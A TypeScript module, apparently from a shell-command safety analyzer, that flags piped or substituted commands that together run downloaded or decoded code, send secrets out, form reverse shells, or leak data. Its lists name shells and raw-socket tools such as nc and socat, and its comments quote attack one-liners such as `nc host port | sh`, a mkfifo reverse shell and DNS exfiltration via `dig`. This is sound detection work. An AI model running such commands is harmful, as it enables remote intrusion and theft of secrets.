import type { Command } from '../command.ts';
import type { Effect } from '../effect.ts';
import { NO_OBJECT } from './objects.ts';

const SHELLS = new Set([
  'sh',
  'bash',
  'dash',
  'zsh',
  'ksh',
  'ash',
  'fish',
  'csh',
  'tcsh',
  'busybox',
  'pwsh',
  'powershell',
]);
const EVALUATORS = new Set([
  ...SHELLS,
  'eval',
  'source',
  '.',
  'exec',
  'python',
  'python2',
  'python3',
  'perl',
  'ruby',
  'node',
  'php',
  'xargs',
  'env',
  'sudo',
  'osascript',
  'lua',
  'deno',
  'bun',
  'iex',
  'awk',
]);
const RAW_SOCKETS = new Set([
  'nc',
  'ncat',
  'netcat',
  'telnet',
  'socat',
  'openssl',
  'nc.traditional',
  'nc.openbsd',
  'cryptcat',
  'pwncat',
  'whois',
  'busybox',
]);

/**
 * What commands do together that none does alone: code that came over the network and is run, secrets that are
 * read here and sent there, a shell whose input and output are a socket. Adds effects; never removes one.
 */
export function effectsTogether(commands: readonly Command[], alone: readonly Effect[][]): readonly Effect[] {
  const added: Effect[] = [];
  const downloaded = new Set<string>();
  const decoded = new Set<string>();
  const tainted = new Set<string>();
  for (const command of commands) {
    const own = alone[command.index] ?? NO_EFFECTS;
    const before = upstream(command, commands);
    codeFromElsewhere(command, commands, alone, before, own, { downloaded, decoded }, added);
    secretsLeaving(command, commands, alone, before, own, tainted, added);
    socketShell(command, commands, before, own, added);
    bareSending(command, before, alone, own, added);
    remember(before, alone, own, { downloaded, decoded }, tainted);
  }
  return added;
}

/** Files that this action made out of something that was not written here. */
interface Files {
  readonly downloaded: Set<string>;
  readonly decoded: Set<string>;
}

const NO_EFFECTS: readonly Effect[] = [];

function upstream(command: Command, commands: readonly Command[]): readonly Command[] {
  if (command.pipedFrom === null) return NO_COMMANDS;
  const chain: Command[] = [];
  let at: number | null = command.pipedFrom;
  while (at !== null && chain.length < 32) {
    const other: Command | undefined = commands[at];
    if (other === undefined || chain.includes(other)) break;
    chain.push(other);
    at = other.pipedFrom;
  }
  return chain;
}

const NO_COMMANDS: readonly Command[] = [];
const NEAR = 64;

function codeFromElsewhere(
  command: Command,
  commands: readonly Command[],
  alone: readonly Effect[][],
  before: readonly Command[],
  own: readonly Effect[],
  files: Files,
  added: Effect[],
): void {
  for (const effect of own) {
    if (effect.kind === 'execute' && effect.object.kind === 'path') {
      if (files.downloaded.has(effect.object.value))
        added.push(executes(command, ['remote-code', 'downloaded']));
      if (files.decoded.has(effect.object.value)) added.push(executes(command, ['encoded']));
    }
    if (effect.kind !== 'execute' || !effect.tags.includes('piped-code')) continue;
    const tags = new Set<string>();
    for (const other of before)
      for (const source of alone[other.index] ?? NO_EFFECTS) {
        if (source.kind === 'download' || (source.kind === 'connect' && RAW_SOCKETS.has(other.program)))
          tags.add('remote-code');
        if (source.tags.includes('decodes')) tags.add('encoded');
        if (source.tags.includes('history')) tags.add('history-replay');
        if (source.kind === 'read' && source.object.labels.includes('temp')) tags.add('from-temp');
      }
    if (tags.size > 0) added.push(executes(command, [...tags]));
  }
  // `eval "$(curl …)"`, `bash <(curl …)`, `. <(base64 -d …)`: the text that is run is another command's output.
  const evaluates = EVALUATORS.has(command.program) || !command.name.known;
  if (
    !evaluates ||
    (command.args.every((word) => word.known) && command.name.known && command.code?.known !== false)
  )
    return;
  // Near ones only: a line of a hundred thousand commands must not cost its square.
  for (const other of commands.slice(Math.max(0, command.index - NEAR), command.index + NEAR)) {
    if (other.origin !== 'substitution' || other.index === command.index) continue;
    const sources = [other, ...upstream(other, commands)];
    const effects = sources.flatMap((source) => alone[source.index] ?? []);
    const tags: string[] = [];
    if (effects.some((effect) => effect.kind === 'download')) tags.push('remote-code');
    if (effects.some((effect) => effect.tags.includes('decodes'))) tags.push('encoded');
    if (tags.length > 0) {
      added.push(executes(command, tags));
      return;
    }
  }
}

function executes(command: Command, tags: readonly string[]): Effect {
  return {
    kind: 'execute',
    object: { ...NO_OBJECT, kind: 'code' },
    command: command.index,
    recursive: false,
    force: false,
    reversible: 'unknown',
    tags,
  };
}

function isSecretRead(effect: Effect): boolean {
  return (
    (effect.kind === 'read' &&
      (effect.object.labels.includes('secret') ||
        effect.object.labels.includes('env-file') ||
        effect.tags.includes('secret'))) ||
    effect.tags.includes('environment') ||
    effect.tags.includes('clipboard-read')
  );
}

function sendsOut(effect: Effect): boolean {
  return (
    (effect.kind === 'upload' ||
      effect.kind === 'connect' ||
      effect.kind === 'send' ||
      effect.kind === 'download') &&
    !effect.object.labels.includes('loopback')
  );
}

function secretsLeaving(
  command: Command,
  commands: readonly Command[],
  alone: readonly Effect[][],
  before: readonly Command[],
  own: readonly Effect[],
  tainted: ReadonlySet<string>,
  added: Effect[],
): void {
  const out = own.find(sendsOut);
  if (out === undefined) return;
  let secret = before.some((other) => (alone[other.index] ?? NO_EFFECTS).some(isSecretRead));
  if (!secret)
    secret = own.some(
      (effect) =>
        effect.kind === 'upload' && effect.object.kind === 'path' && tainted.has(effect.object.value),
    );
  if (!secret && command.args.some((word) => !word.known))
    secret = commands
      .slice(Math.max(0, command.index - NEAR), command.index + NEAR)
      .some(
        (other) =>
          other.origin === 'substitution' &&
          other.index !== command.index &&
          (alone[other.index] ?? NO_EFFECTS).some(isSecretRead),
      );
  if (secret) added.push({ ...out, kind: 'upload', tags: [...out.tags, 'secret-out'] });
}

function socketShell(
  command: Command,
  commands: readonly Command[],
  before: readonly Command[],
  own: readonly Effect[],
  added: Effect[],
): void {
  const shell = SHELLS.has(command.program) || command.program === 'exec';
  const socket = own.some((effect) => effect.tags.includes('shell-socket'));
  if (shell && socket && command.program !== 'exec') added.push(executes(command, ['reverse-shell']));
  if (!SHELLS.has(command.program)) return;
  const raw = (other: Command | undefined): boolean =>
    other !== undefined && RAW_SOCKETS.has(other.program) && other.program !== 'busybox';
  const next = command.pipedTo === null ? undefined : commands[command.pipedTo];
  // `nc host port | sh`, `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`
  if (before.some(raw) || (raw(next) && command.pipedFrom !== null))
    added.push(executes(command, ['reverse-shell']));
}

/** `echo x | nc host 99`, `tar c . | ssh host 'cat > x'`, `dig $(base64 key).example.com`. */
function bareSending(
  command: Command,
  before: readonly Command[],
  alone: readonly Effect[][],
  own: readonly Effect[],
  added: Effect[],
): void {
  const connect = own.find(
    (effect) => effect.kind === 'connect' && !effect.object.labels.includes('loopback'),
  );
  if (connect === undefined) return;
  const fed = before.length > 0 || command.redirects.some((redirect) => redirect.operator === '<');
  const packed = before.some((other) =>
    (alone[other.index] ?? NO_EFFECTS).some((effect) => effect.tags.includes('archived')),
  );
  const lookup =
    connect.tags.includes('name-lookup') &&
    /\uFFFC[^\uFFFC]*\.[a-z\d-]+\.[a-z]{2,}/.test(connect.object.value);
  if ((connect.tags.includes('raw-socket') && fed) || lookup)
    added.push({ ...connect, kind: 'upload', object: { ...connect.object, known: true }, tags: ['raw-out'] });
  else if (packed) added.push({ ...connect, kind: 'upload', tags: ['file-out'] });
}

function remember(
  before: readonly Command[],
  alone: readonly Effect[][],
  own: readonly Effect[],
  files: Files,
  tainted: Set<string>,
): void {
  const { downloaded, decoded } = files;
  const all = before.length === 0 ? own : [...own, ...before.flatMap((other) => alone[other.index] ?? [])];
  const fetches = all.some((effect) => effect.kind === 'download');
  const secret = all.some(isSecretRead);
  const decodes = all.some((effect) => effect.tags.includes('decodes'));
  for (const effect of own) {
    if (effect.kind !== 'write' || effect.object.kind !== 'path' || !effect.object.known) continue;
    if (effect.tags.includes('downloaded') || (fetches && effect.tags.includes('redirect')))
      downloaded.add(effect.object.value);
    if (secret) tainted.add(effect.object.value);
    if (decodes && effect.tags.includes('redirect')) decoded.add(effect.object.value);
  }
  // A copy of what came over the network is what came over the network.
  for (const effect of own)
    if (effect.kind === 'read' && downloaded.has(effect.object.value))
      for (const target of own)
        if (target.kind === 'write' && target.object.known) downloaded.add(target.object.value);
}
